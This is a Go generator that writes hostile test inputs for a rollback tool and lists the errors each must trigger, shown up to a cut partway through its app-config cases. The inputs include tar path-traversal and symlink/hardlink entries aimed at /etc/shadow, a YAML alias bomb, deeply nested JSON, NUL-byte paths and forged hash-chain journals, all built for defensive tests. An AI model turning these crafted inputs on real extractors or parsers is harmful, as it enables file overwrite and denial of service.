// Command gen-hostile writes the hostile-input corpus under testdata/hostile:
// archives, gzip streams, SQLite files, settings files, backup-dir layouts,
// backup manifests, journals, lock files, app configs, agent bundles and
// special files that cfrollback must refuse with a clear error while
// changing nothing. Deterministic: the same program writes the same bytes.
//
//	go run ./scripts/gen-hostile [OUTDIR]   (default testdata/hostile)
//
// cases.json lists every case with what kind of input it is and what the
// error must say; internal/integration/hostile_test.go runs them.
package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	_ "github.com/mattn/go-sqlite3"
)

// Case is one hostile input.
type Case struct {
	Name string `json:"name"`
	// Kind: archive (a backup-*.tar.gz for emergency), settings (a
	// --config file), sqlite (a database for database check), backupdir
	// (a layout built by the test from Setup); and, judged by their Runs:
	// manifest (a backup's sidecar manifest), journal (the journal and its
	// head), lock (what sits at the lock path), appconfig (the app config,
	// in the install or as a FILE, and config checkpoints), agents (an
	// agents bundle or the agents dir), special (a FIFO, a link to
	// /dev/zero, a directory, ... where a file is expected).
	Kind string `json:"kind"`
	File string `json:"file,omitempty"`
	// Expect is a regular expression the error output must match.
	Expect string `json:"expect"`
	// Setup says what the test builds for inputs a file cannot hold (a
	// FIFO, a symlink, another owner): for backupdir cases what the newest
	// entry is; for the other kinds a comma-separated list of words that
	// hostile_test.go knows.
	Setup string `json:"setup,omitempty"`
	// Runs, for the kinds added with issue 13, are the commands that judge
	// the input, each with its documented exit code and what its output
	// must say. In Args, {file} is the hostile input's path.
	Runs []Run `json:"runs,omitempty"`
	// Bug, when set, says how today's code fails the case: it is held out
	// of cases.json and written to bugs.json instead, until it is fixed.
	Bug string `json:"bug,omitempty"`
}

// Run is one command of a case.
type Run struct {
	Args   []string `json:"args"`
	Code   int      `json:"code"`
	Expect string   `json:"expect"`
}

var mtime = time.Date(2025, 1, 4, 14, 0, 0, 0, time.UTC)

type entry struct {
	hdr  tar.Header
	body string
}

func file(name, body string) entry {
	return entry{tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body)), ModTime: mtime}, body}
}
func dir(name string) entry {
	return entry{tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: 0o755, ModTime: mtime}, ""}
}
func link(name, target string, typ byte) entry {
	return entry{tar.Header{Name: name, Typeflag: typ, Linkname: target, Mode: 0o777, ModTime: mtime}, ""}
}

func tarGz(entries ...entry) []byte {
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	for _, e := range entries {
		h := e.hdr
		h.Format = tar.FormatPAX
		if err := tw.WriteHeader(&h); err != nil {
			panic(fmt.Sprintf("%s: %v", h.Name, err))
		}
		if e.body != "" {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				panic(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		panic(err)
	}
	return gz(tb.Bytes())
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	zw.ModTime = mtime
	_, _ = zw.Write(b)
	_ = zw.Close()
	return out.Bytes()
}

// rawTar builds a one-entry tar by hand, for names archive/tar refuses to write.
func rawTar(name string, typ byte, body string) []byte {
	h := make([]byte, 512)
	copy(h[0:100], name)
	copy(h[100:108], "0000644\x00")
	copy(h[108:116], "0000000\x00")
	copy(h[116:124], "0000000\x00")
	copy(h[124:136], fmt.Sprintf("%011o\x00", len(body)))
	copy(h[136:148], fmt.Sprintf("%011o\x00", mtime.Unix()))
	h[156] = typ
	copy(h[257:263], "ustar\x00")
	copy(h[263:265], "00")
	copy(h[148:156], "        ")
	sum := 0
	for _, c := range h {
		sum += int(c)
	}
	copy(h[148:156], fmt.Sprintf("%06o\x00 ", sum))
	var b bytes.Buffer
	b.Write(h)
	b.WriteString(body)
	if pad := len(body) % 512; pad != 0 {
		b.Write(make([]byte, 512-pad))
	}
	b.Write(make([]byte, 1024))
	return b.Bytes()
}

func main() {
	out := "testdata/hostile"
	if len(os.Args) > 1 {
		out = os.Args[1]
	}
	if err := os.RemoveAll(out); err != nil {
		panic(err)
	}
	must(os.MkdirAll(out, 0o755))
	var cases []Case
	put := func(c Case, data []byte) {
		if data != nil {
			c.File = c.Name + map[string]string{"archive": ".tar.gz", "settings": ".yaml", "sqlite": ".db",
				"manifest": ".manifest.json", "journal": ".jsonl", "appconfig": ".json", "agents": ".json"}[c.Kind]
			must(os.WriteFile(filepath.Join(out, c.File), data, 0o644))
		}
		cases = append(cases, c)
	}
	good := file("app.txt", "v1\n")
	unsafe := `escapes|outside|absolute|\.\.|not allowed|refus|unsafe|link`

	// tar entries
	put(Case{Name: "tar-absolute-path", Kind: "archive", Expect: `entry "/etc/cfrollback-hostile"`}, tarGz(good, file("/etc/cfrollback-hostile", "x")))
	put(Case{Name: "tar-dotdot", Kind: "archive", Expect: `entry "\.\./escape"`}, tarGz(good, file("../escape", "x")))
	put(Case{Name: "tar-dotdot-nested", Kind: "archive", Expect: `entry "a/\.\./\.\./escape"`}, tarGz(good, dir("a/"), file("a/../../escape", "x")))
	put(Case{Name: "tar-symlink-absolute", Kind: "archive", Expect: `entry "etc"`}, tarGz(good, link("etc", "/etc", tar.TypeSymlink)))
	put(Case{Name: "tar-symlink-escape-relative", Kind: "archive", Expect: `entry "up"`}, tarGz(good, link("up", "../../..", tar.TypeSymlink)))
	put(Case{Name: "tar-write-through-symlink", Kind: "archive", Expect: `entry "d/passwd"|entry "d"`}, tarGz(good, link("d", "/tmp", tar.TypeSymlink), file("d/passwd", "x")))
	put(Case{Name: "tar-symlink-then-dir-trick", Kind: "archive", Expect: unsafe}, tarGz(good, dir("d/"), link("l", "d/../x", tar.TypeSymlink), link("d2", ".", tar.TypeSymlink), file("d2/../../x", "x")))
	put(Case{Name: "tar-hardlink-outside", Kind: "archive", Expect: `entry "h"`}, tarGz(good, link("h", "/etc/shadow", tar.TypeLink)))
	put(Case{Name: "tar-hardlink-missing", Kind: "archive", Expect: `entry "h"`}, tarGz(good, link("h", "nothere", tar.TypeLink)))
	put(Case{Name: "tar-fifo", Kind: "archive", Expect: `entry "pipe"`}, tarGz(good, entry{tar.Header{Name: "pipe", Typeflag: tar.TypeFifo, Mode: 0o644, ModTime: mtime}, ""}))
	put(Case{Name: "tar-char-device", Kind: "archive", Expect: `entry "null"`}, tarGz(good, entry{tar.Header{Name: "null", Typeflag: tar.TypeChar, Devmajor: 1, Devminor: 3, Mode: 0o666, ModTime: mtime}, ""}))
	put(Case{Name: "tar-block-device", Kind: "archive", Expect: `entry "sda"`}, tarGz(good, entry{tar.Header{Name: "sda", Typeflag: tar.TypeBlock, Devmajor: 8, Mode: 0o660, ModTime: mtime}, ""}))
	put(Case{Name: "tar-duplicate-name", Kind: "archive", Expect: `entry "app.txt"`}, tarGz(good, file("app.txt", "evil\n")))
	put(Case{Name: "tar-duplicate-dot-slash", Kind: "archive", Expect: `entry "\./app.txt"`}, tarGz(good, file("./app.txt", "evil\n")))
	put(Case{Name: "tar-dir-then-file", Kind: "archive", Expect: `entry "lib"`}, tarGz(good, dir("lib/"), file("lib", "x")))
	put(Case{Name: "tar-invalid-utf8-name", Kind: "archive", Expect: `UTF-8|utf-8|name`}, gz(rawTar("bad\xff\xfename", '0', "x")))
	put(Case{Name: "tar-long-name", Kind: "archive", Expect: `long|name`}, tarGz(good, file(strings.Repeat("a/", 2100)+"f", "x")))
	put(Case{Name: "tar-gnu-sparse", Kind: "archive", Expect: `sparse`}, gz(rawTar("sparse.bin", 'S', "")))
	put(Case{Name: "tar-unknown-type", Kind: "archive", Expect: `type|entry "weird"`}, gz(rawTar("weird", 'Z', "")))
	put(Case{Name: "tar-huge-size-header", Kind: "archive", Expect: `corrupt|truncat|unexpected EOF|large|limit`},
		func() []byte { b := rawTar("big", '0', ""); copy(b[124:136], "77777777777\x00"); return gz(fixSum(b)) }())
	// gzip streams
	valid := tarGz(good, file("lib/x.js", strings.Repeat("module.exports = 1;\n", 200)))
	put(Case{Name: "gz-truncated", Kind: "archive", Expect: `corrupt`}, valid[:len(valid)/2])
	flipped := append([]byte(nil), valid...)
	flipped[len(flipped)/2] ^= 0x40
	put(Case{Name: "gz-bit-flipped", Kind: "archive", Expect: `corrupt`}, flipped)
	put(Case{Name: "gz-trailing-junk", Kind: "archive", Expect: `corrupt`}, append(append([]byte(nil), valid...), []byte("JUNK AFTER THE STREAM")...))
	put(Case{Name: "gz-not-gzip", Kind: "archive", Expect: `corrupt`}, []byte("this is not a gzip stream at all\n"))
	put(Case{Name: "gz-empty-file", Kind: "archive", Expect: `corrupt|empty`}, []byte{})
	put(Case{Name: "gz-tar-without-end-marker", Kind: "archive", Expect: `corrupt`}, gz(rawTar("a", '0', "x")[:1024]))
	// SQLite files
	put(Case{Name: "sqlite-not-sqlite", Kind: "sqlite", Expect: `(?i)corrupt|not an? (sqlite )?database`}, []byte("SQLite format 2\x00 -- not really\n"))
	put(Case{Name: "sqlite-zero-bytes", Kind: "sqlite", Expect: `(?i)empty|corrupt|not an? (sqlite )?database`}, []byte{})
	put(Case{Name: "sqlite-random-header", Kind: "sqlite", Expect: `(?i)corrupt|not an? (sqlite )?database`}, bytes.Repeat([]byte{0xA5}, 8192))
	// settings files
	put(Case{Name: "settings-bad-yaml", Kind: "settings", Expect: `settings file`}, []byte("service: [unclosed\n"))
	put(Case{Name: "settings-wrong-type", Kind: "settings", Expect: `service.stop_timeout`}, []byte("service:\n  stop_timeout: [1, 2]\n"))
	put(Case{Name: "settings-unknown-manager", Kind: "settings", Expect: `service.manager`}, []byte("service:\n  manager: upstart\n"))
	put(Case{Name: "settings-relative-install", Kind: "settings", Expect: `install_dir`}, []byte("install_dir: opt/claude-flow\n"))
	put(Case{Name: "settings-root-install", Kind: "settings", Expect: `install_dir`}, []byte("install_dir: /\n"))
	put(Case{Name: "settings-preserve-escape", Kind: "settings", Expect: `restore.preserve`}, []byte("restore:\n  preserve: [../../etc]\n"))
	put(Case{Name: "settings-failed-dir-elsewhere", Kind: "settings", Expect: `failed_dir_pattern`}, []byte("failed_dir_pattern: /tmp/x-{ts}\n"))
	// backup-dir oddities: the newest entry is not a plain file
	for _, s := range []string{"symlink", "fifo", "directory"} {
		put(Case{Name: "backupdir-newest-is-" + s, Kind: "backupdir", Setup: s, Expect: `not a regular file`}, nil)
	}
	put(Case{Name: "backupdir-newest-is-world-writable", Kind: "backupdir", Setup: "world-writable", Expect: `world-writable`}, nil)
	bugs := []Case{} // "[]" when every held-out case is fixed
	for _, c := range issue13(out) {
		if c.Bug != "" {
			bugs = append(bugs, c)
		} else {
			cases = append(cases, c)
		}
	}
	b, _ := json.MarshalIndent(cases, "", "  ")
	must(os.WriteFile(filepath.Join(out, "cases.json"), append(b, '\n'), 0o644))
	b, _ = json.MarshalIndent(bugs, "", "  ")
	must(os.WriteFile(filepath.Join(out, "bugs.json"), append(b, '\n'), 0o644))
	fmt.Printf("gen-hostile: %d cases in %s (and %d held out in bugs.json)\n", len(cases), out, len(bugs))
}

func fixSum(h []byte) []byte {
	copy(h[148:156], "        ")
	sum := 0
	for _, c := range h[:512] {
		sum += int(c)
	}
	copy(h[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return h
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}

// ---- issue 13: manifests, journals, locks, app configs, agent sets,
// databases and special files ----

// issue13 writes the inputs of the kinds added with issue 13 and returns
// their cases. Each case carries the commands that judge it (Runs).
func issue13(out string) []Case {
	var cases []Case
	put := func(c Case, data []byte) {
		if data != nil {
			c.File = c.Name + map[string]string{"manifest": ".manifest.json", "journal": ".jsonl", "appconfig": ".json", "agents": ".json", "sqlite": ".db", "special": ".db", "settings": ".yaml"}[c.Kind]
			must(os.WriteFile(filepath.Join(out, c.File), data, 0o644))
		}
		cases = append(cases, c)
	}
	manifestCases(out, put)
	journalCases(out, put)
	lockCases(put)
	settingsCases(put)
	appConfigCases(put)
	appConfigLinkCases(put)
	checkpointCases(put)
	escapeCases(put)
	agentCases(put)
	databaseCases(out, put)
	specialCases(put)
	return cases
}

func sha(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func jsonOf(v any) []byte {
	b, err := json.MarshalIndent(v, "", "  ")
	must(err)
	return append(b, '\n')
}

// ManifestArchive is the backup every manifest case sits next to: the test
// copies it to backups/backup-20250105-000000.tar.gz and the case's file to
// backups/backup-20250105-000000.manifest.json.
const ManifestArchive = "manifest-backup.tar.gz"

func manifestCases(out string, put func(Case, []byte)) {
	files := []entry{file("app.txt", "v1\n"), file("package.json", `{"name": "claude-flow", "version": "1.0.0"}`+"\n")}
	arch := tarGz(files...)
	must(os.WriteFile(filepath.Join(out, ManifestArchive), arch, 0o644))
	good := func() map[string]any {
		var recs []any
		total := 0
		for _, f := range files {
			recs = append(recs, map[string]any{"path": f.hdr.Name, "mode": "0644", "size": len(f.body), "sha256": sha([]byte(f.body))})
			total += len(f.body)
		}
		return map[string]any{
			"version": 1, "archive": "backup-20250105-000000.tar.gz", "archive_sha256": sha(arch), "archive_size": len(arch),
			"created": mtime.Format(time.RFC3339), "created_by": "cfrollback", "host": "web1", "app_version": "1.0.0",
			"app_version_source": "package.json", "install_dir": "/opt/claude-flow", "exclude": []string{},
			"entries": len(files), "bytes": total, "files": recs,
		}
	}
	edit := func(f func(m map[string]any)) []byte { m := good(); f(m); return jsonOf(m) }
	fileRec := func(m map[string]any, i int) map[string]any { return m["files"].([]any)[i].(map[string]any) }

	const id = `backup-20250105-000000\.tar\.gz`
	skipped := `SKIPPING backup ` + id + `: its manifest is damaged \(`
	// damaged: the manifest cannot be read; verify FAILS the backup naming
	// the problem, emergency skips it loudly and, with no other backup,
	// exits 3 without touching anything.
	damaged := func(name string, data []byte, setup, problem string) {
		put(Case{Name: "manifest-" + name, Kind: "manifest", Setup: setup, Expect: problem, Runs: []Run{
			{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*` + problem},
			{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: skipped + `.*` + problem},
			{Args: []string{"emergency"}, Code: 3, Expect: skipped + `.*` + problem},
		}}, data)
	}
	// mismatch: the manifest reads but disagrees with the archive; verify
	// FAILS it naming the difference (emergency compares only the archive
	// digest, so these are judged by verify alone).
	mismatch := func(name string, data []byte, problem string) {
		put(Case{Name: "manifest-" + name, Kind: "manifest", Expect: problem, Runs: []Run{
			{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*` + problem},
		}}, data)
		if name == "file-digest-wrong" {
			return // the archive's own digest matches: emergency may use it
		}
		// the same manifest as emergency sees it
		put(Case{Name: "manifest-emergency-" + name, Kind: "manifest", Expect: `its manifest`,
			Runs: []Run{
				{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: `SKIPPING backup ` + id + `: its manifest`},
			}}, data)
	}
	g := jsonOf(good())
	// the control: with this manifest the backup verifies and emergency --dry-run uses it
	must(os.WriteFile(filepath.Join(out, "manifest-good.manifest.json"), g, 0o644))
	damaged("not-json", []byte("garbage{\n"), "", `manifest .*manifest\.json.*(not valid JSON|invalid character)`)
	damaged("truncated", g[:len(g)/2], "", `manifest .*manifest\.json.*(not valid JSON|unexpected end)`)
	damaged("empty", []byte{}, "", `manifest .*manifest\.json.*(not valid JSON|unexpected end)`)
	damaged("binary", bytes.Repeat([]byte{0xff, 0x00, 0xfe}, 300), "", `manifest .*manifest\.json.*(not valid JSON|invalid character)`)
	damaged("digest-wrong-type", edit(func(m map[string]any) { m["archive_sha256"] = 12345 }), "", `archive_sha256`)
	damaged("deep-nesting", []byte(`{"label": `+strings.Repeat("[", 20000)+strings.Repeat("]", 20000)+"}\n"), "", `manifest .*manifest\.json.*(not valid JSON|depth|nest)`)
	damaged("fifo", nil, "fifo", `manifest\.json: not a regular file \(a FIFO\)`)
	damaged("directory", nil, "directory", `manifest\.json: not a regular file \(a directory\)`)
	damaged("symlink-dev-zero", nil, "symlink-dev-zero", `manifest\.json: not a regular file`)
	damaged("huge", nil, "huge", `manifest\.json: 268435457 bytes, more than the 268435456 this file may have`)
	put(Case{Name: "manifest-wrong-archive-digest", Kind: "manifest", Expect: `does not match its manifest`, Runs: []Run{
		{Args: []string{"backup", "verify", "--all"}, Code: 1, Expect: `(?s)FAILED.*archive sha256 [0-9a-f]{64} does not match its manifest \(0{64}\)`},
		{Args: []string{"emergency", "--dry-run"}, Code: 3, Expect: `SKIPPING backup ` + id + `: sha256 [0-9a-f]{64} does not match its manifest \(0{64}\)`},
		{Args: []string{"emergency"}, Code: 3, Expect: `SKIPPING backup ` + id + `: sha256 [0-9a-f]{64} does not match its manifest`},
	}}, edit(func(m map[string]any) { m["archive_sha256"] = strings.Repeat("0", 64) }))
	mismatch("missing-archive-digest", edit(func(m map[string]any) { delete(m, "archive_sha256") }), `archive_sha256 is missing`)
	mismatch("null", []byte("null\n"), `archive_sha256 is missing`)
	mismatch("entries-wrong-type", edit(func(m map[string]any) { m["entries"] = "two" }), `manifest .*manifest\.json.*entries`)
	mismatch("huge-number", edit(func(m map[string]any) { m["archive_size"] = json.Number("1" + strings.Repeat("0", 400)) }), `manifest .*manifest\.json.*archive_size`)
	mismatch("negative-entries", edit(func(m map[string]any) { m["entries"] = -1 }), `entries -1 is negative|its manifest says -1`)
	mismatch("newer-version", edit(func(m map[string]any) { m["version"] = 99 }), `has version 99; this cfrollback reads up to 1, upgrade it`)
	mismatch("files-wrong-type", edit(func(m map[string]any) { m["files"] = "app.txt" }), `manifest .*manifest\.json.*files`)
	mismatch("mode-not-octal", edit(func(m map[string]any) { fileRec(m, 0)["mode"] = "rwxr-xr-x" }), `mode "rwxr-xr-x" is not octal`)
	mismatch("path-dotdot", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "../../etc/shadow" }), `path "\.\./\.\./etc/shadow" leaves the install dir|file "\.\./\.\./etc/shadow" is in the manifest but not in the archive`)
	mismatch("path-absolute", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "/etc/shadow" }), `path "/etc/shadow" is absolute|file "/etc/shadow" is in the manifest but not in the archive`)
	mismatch("path-nul", edit(func(m map[string]any) { fileRec(m, 0)["path"] = "app.txt\x00.sh" }), `path "app\.txt\\x00\.sh" holds a NUL|file "app\.txt\\x00\.sh" is in the manifest but not in the archive`)
	mismatch("file-digest-wrong", edit(func(m map[string]any) { fileRec(m, 0)["sha256"] = strings.Repeat("f", 64) }), `file "app\.txt": sha256 [0-9a-f]{64}, manifest says f{64}`)
}

// jrec mirrors internal/journal.Record: its hash is the SHA-256 of its JSON
// with Hash "".
type jrec struct {
	Seq   int64           `json:"seq"`
	Time  time.Time       `json:"time"`
	RunID string          `json:"run_id"`
	Event string          `json:"event"`
	Step  string          `json:"step,omitempty"`
	Data  json.RawMessage `json:"data,omitempty"`
	Prev  string          `json:"prev"`
	Hash  string          `json:"hash"`
}

func (r jrec) line() []byte { b, err := json.Marshal(r); must(err); return b }

func (r *jrec) rehash() {
	r.Hash = ""
	r.Hash = sha(r.line())
}

// chain numbers recs from seq and links them after prev.
func chain(recs []jrec, seq int64, prev string) []jrec {
	for i := range recs {
		recs[i].Seq, recs[i].Prev = seq+int64(i), prev
		recs[i].rehash()
		prev = recs[i].Hash
	}
	return recs
}

func runRecords(id, user string, at time.Time, outcome string, downtime int) []jrec {
	ev := func(d time.Duration, event, step, data string) jrec {
		return jrec{Time: at.Add(d), RunID: id, Event: event, Step: step, Data: json.RawMessage(data)}
	}
	errText := ""
	last := ev(2*time.Second, "step_done", "preflight", `{"detail":"staged backup-20250104-140000.tar.gz","duration_ms":2000}`)
	if outcome != "ok" {
		errText = "no usable backup"
		last = ev(2*time.Second, "step_failed", "preflight", `{"error":"no usable backup","duration_ms":2000}`)
	}
	return []jrec{
		ev(0, "intent", "", fmt.Sprintf(`{"command":"emergency","args":["emergency"],"user":%q,"host":"web1","pid":4242}`, user)),
		ev(time.Second, "step_start", "preflight", ""),
		last,
		ev(9*time.Second, "outcome", "", fmt.Sprintf(`{"backup":"/var/backups/claude-flow/backup-20250104-140000.tar.gz","downtime_ms":%d,"error":%q,"outcome":%q}`, downtime, errText, outcome)),
	}
}

func lines(recs []jrec) [][]byte {
	var out [][]byte
	for _, r := range recs {
		out = append(out, r.line())
	}
	return out
}

func joinLines(ls [][]byte) []byte { return append(bytes.Join(ls, []byte("\n")), '\n') }

func headOf(r jrec) []byte { return []byte(fmt.Sprintf(`{"seq":%d,"hash":%q}`+"\n", r.Seq, r.Hash)) }

func journalCases(out string, put func(Case, []byte)) {
	t0 := time.Date(2025, 1, 4, 14, 0, 0, 0, time.UTC)
	base := chain(append(runRecords("20250104-140000-aaaaaa", "root", t0, "ok", 4200),
		runRecords("20250104-150000-bbbbbb", "root", t0.Add(time.Hour), "failed", 0)...), 1, "")
	last := base[len(base)-1]
	head := headOf(last)
	// jcase writes the journal (when not nil) and its head (when not nil)
	// under the case's name; the test puts them at CFROLLBACK_JOURNAL.
	jcase := func(name, bug string, journal, head []byte, setup string, runs ...Run) {
		c := Case{Name: "journal-" + name, Kind: "journal", Setup: setup, Expect: runs[0].Expect, Runs: runs, Bug: bug}
		if journal != nil {
			c.File = c.Name + ".jsonl"
			must(os.WriteFile(filepath.Join(out, c.File), journal, 0o644))
			if head != nil {
				must(os.WriteFile(filepath.Join(out, c.File+".head"), head, 0o644))
			}
		}
		put(c, nil)
	}
	history := func(code int, expect string) Run { return Run{Args: []string{"history"}, Code: code, Expect: expect} }
	report := func(code int, expect string) Run { return Run{Args: []string{"report"}, Code: code, Expect: expect} }
	verify := func(expect string) Run { return Run{Args: []string{"journal", "verify"}, Code: 1, Expect: expect} }
	ls := lines(base)

	edited := append([][]byte(nil), ls...)
	edited[0] = bytes.Replace(edited[0], []byte(`"user":"root"`), []byte(`"user":"mallory"`), 1)
	jcase("edited-middle-line", "", joinLines(edited), head, "",
		history(0, `(?s)mallory .*\(UNVERIFIED\).*fails its hash chain`), report(0, `UNVERIFIED`),
		verify(`line 1: hash [0-9a-f]+ does not match the content`))

	re := append([]jrec(nil), base...)
	re[3].Data = json.RawMessage(`{"backup":"/var/backups/claude-flow/backup-20250104-140000.tar.gz","downtime_ms":1,"error":"","outcome":"ok"}`)
	re[3].rehash()
	jcase("edited-and-rehashed", "", joinLines(lines(re)), head, "",
		history(0, `(?s)UNVERIFIED.*fails its hash chain`), report(0, `UNVERIFIED`),
		verify(`line 5: prev [0-9a-f]+ is not the hash [0-9a-f]+ of the record on line 4`))

	deleted := append(append([][]byte(nil), ls[:2]...), ls[3:]...)
	jcase("deleted-line", "", joinLines(deleted), head, "",
		history(0, `(?s)UNVERIFIED.*fails its hash chain`), report(0, `UNVERIFIED`),
		verify(`seq 4 follows seq 2`))

	// records cut from the end: what is left still chains, so history
	// warns instead of marking runs; the report must say it too
	cut := `ends at seq 6 but its head records seq 8: records were removed from the end`
	jcase("tail-cut", "", joinLines(ls[:6]), head, "", history(0, `(?s)INTERRUPTED.*`+cut), verify(cut))
	jcase("report-tail-cut", "", joinLines(ls[:6]), head, "", report(0, cut))

	// The chain intact, the head wrong: journal verify sees it; history and report must too.
	forged := joinLines(lines(chain(append(append(append([]jrec(nil), base[:4]...),
		runRecords("20250104-143000-ffffff", "mallory", t0.Add(30*time.Minute), "ok", 1)...), base[4:]...), 1, "")))
	wrongHead := []byte(fmt.Sprintf(`{"seq":%d,"hash":%q}`+"\n", last.Seq, strings.Repeat("0", 64)))
	for _, h := range []struct {
		name            string
		journal, head   []byte
		verify, history string
	}{
		{"forged-run-rechained", forged, head, `head`, `(?s)mallory .*UNVERIFIED`},
		{"bad-head", joinLines(ls), []byte("garbage\n"), `head .*unreadable`, `(?s)UNVERIFIED.*head`},
		{"head-wrong-hash", joinLines(ls), wrongHead, `head`, `(?s)UNVERIFIED.*head`},
	} {
		jcase(h.name, "", h.journal, h.head, "", verify(h.verify))
		jcase("history-"+h.name, "", h.journal, h.head, "", history(0, h.history), report(0, `UNVERIFIED`))
	}

	// Lines that are not records, or a journal that is not a file: history
	// and journal verify refuse naming the line or the file; report must
	// exit 1 as documented.
	garbage := append(append(append([][]byte(nil), ls[:4]...), []byte("\x00\xff\xfe garbage \x1b[31mred\x1b[0m \xc3\x28")), ls[4:]...)
	notJSONL := bytes.Repeat([]byte("<html><body>502 Bad Gateway</body></html>\n"), 20)
	for _, u := range []struct {
		name, setup   string
		journal, head []byte
		problem       string
	}{
		{"garbage-line", "", joinLines(garbage), head, `line 5: (malformed record|not a record): not a JSON object`},
		{"not-jsonl", "", notJSONL, head, `line 1: (malformed record|not a record): not a JSON object`},
		{"huge-line", "huge-line", joinLines(ls), head, `line 3: (malformed record|not a record): line is longer than 4194304 bytes`},
		{"fifo", "fifo", nil, nil, `journal\.jsonl: not a regular file \(a FIFO\)`},
		{"symlink-dev-zero", "symlink-dev-zero", nil, nil, `journal\.jsonl: not a regular file \(a character device\)`},
		{"directory", "directory", nil, nil, `journal\.jsonl: not a regular file \(a directory\)`},
		{"head-fifo", "head-fifo", joinLines(ls), nil, `journal\.jsonl\.head: not a regular file \(a FIFO\)`},
	} {
		jcase(u.name, "", u.journal, u.head, u.setup, history(1, u.problem), verify(u.problem))
		jcase("report-"+u.name, "", u.journal, u.head, u.setup, report(1, u.problem))
	}

	// The journal is a symlink another user could plant in a log dir: a
	// command that journals must refuse it, not append to its target.
	set := Run{Args: []string{"config", "set", "claude.model", "evil"}, Code: 1, Expect: `journal\.jsonl.*(symbolic link|symlink)`}
	jcase("write-symlink-to-empty-file", "", nil, nil, "symlink-to-empty", set)
	jcase("write-dangling-symlink", "", nil, nil, "dangling-symlink", set)
}

// settingsCases: more settings files (judged like the first ones: the
// settings command, exit 2, the key named).
func settingsCases(put func(Case, []byte)) {
	aliases := []string{`a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]`}
	prev := "a"
	for _, n := range "bcdefghi" {
		aliases = append(aliases, fmt.Sprintf("%c: &%c [%s]", n, n, strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ",")))
		prev = string(n)
	}
	aliases = append(aliases, "service:\n  manager: *i")
	for _, c := range []struct {
		name, data, expect, bug string
	}{
		{"yaml-alias-bomb", strings.Join(aliases, "\n") + "\n", `excessive aliasing`, ""},
		{"deep-nesting", "service: " + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + "\n", `exceeded max depth`, ""},
		{"negative-duration", "service:\n  stop_timeout: -5s\n", `service\.stop_timeout=-5s: must be a positive duration`, ""},
		{"zero-timeout", "health:\n  timeout: 0s\n", `health\.timeout=0s: must be a positive duration`, ""},
		{"negative-keep", "backup:\n  keep: -1\n", `backup\.keep=-1: must be at least 1`, ""},
		{"fraction-keep", "backup:\n  keep: 1.5\n", `backup\.keep=1\.5: (1\.5 is )?not a whole number`, ""},
		{"negative-size", "backup:\n  max_size: -1GiB\n", `backup\.max_size=-1GiB: -1GiB is not a size`, ""},
		{"huge-duration", "service:\n  stop_timeout: 99999999999h\n", `service\.stop_timeout=99999999999h`, ""},
		{"huge-number", "backup:\n  max_size: 99999999999999999999999\n", `backup\.max_size=99999999999999999999999`, ""},
		{"huge-count", "backup:\n  keep: 99999999999999999999\n", `backup\.keep=99999999999999999999`, ""},
		{"negative-retries", "notify:\n  retries: -3\n", `notify\.retries`, ""},
		{"word-for-number", "backup:\n  keep: ten\n", `backup\.keep=ten: .*not a whole number`,
			""},
		{"nul-in-path", "install_dir: \"/opt/claude\\0flow\"\n", `install_dir`, ""},
	} {
		put(Case{Name: "settings-" + c.name, Kind: "settings", Expect: c.expect, Bug: c.bug}, []byte(c.data))
	}
}

// lockCases: the lock path holds something another user could have put
// there. emergency refuses before stopping anything, naming the path.
func lockCases(put func(Case, []byte)) {
	for _, c := range []struct{ setup, expect string }{
		{"symlink", `lock file .*cfrollback\.lock is a symbolic link: refused`},
		{"dangling-symlink", `lock file .*cfrollback\.lock is a symbolic link: refused`},
		{"fifo", `lock file .*cfrollback\.lock is not a regular file \(p---------\): refused|lock file .*cfrollback\.lock is not a regular file`},
		{"directory", `lock .*cfrollback\.lock.*(not a regular file|is a directory)`},
		{"other-owner", `lock file .*cfrollback\.lock is owned by uid 65534`},
		{"world-writable", `lock file .*cfrollback\.lock is writable by others \(mode 0666\)`},
	} {
		put(Case{Name: "lock-" + c.setup, Kind: "lock", Setup: c.setup, Expect: c.expect, Runs: []Run{
			{Args: []string{"config", "set", "claude.model", "evil"}, Code: 1, Expect: c.expect},
			{Args: []string{"agents", "reset", "--template", "executive-assistant"}, Code: 1, Expect: c.expect},
		}}, nil)
		put(Case{Name: "lock-emergency-" + c.setup, Kind: "lock", Setup: c.setup, Expect: c.expect,
			Runs: []Run{{Args: []string{"emergency"}, Code: 3, Expect: c.expect}}}, nil)
	}
}

// appConfigCases: the app config is hostile where it lives (in the install:
// config validate and config get) or as a file given to config validate,
// diff and restore (the install's config stays good and unchanged).
func appConfigCases(put func(Case, []byte)) {
	nested := func(n int) []byte {
		return []byte(strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) + "\n")
	}
	for _, c := range []struct {
		name, setup string
		data        []byte
		problem     string
	}{
		{"not-json", "", []byte("{\"claude\": {\"model\": \"x\",}\n"), `line 1, column \d+|1:\d+`},
		{"truncated", "", []byte("{\"claude\": {\"model\": \"dr"), `line 1, column \d+|1:\d+|unexpected end`},
		{"binary", "", bytes.Repeat([]byte{0xff, 0xfe, 0x00}, 100), `line 1, column 1|1:1`},
		{"nested-200", "", nested(200), `nested deeper than 100 levels`},
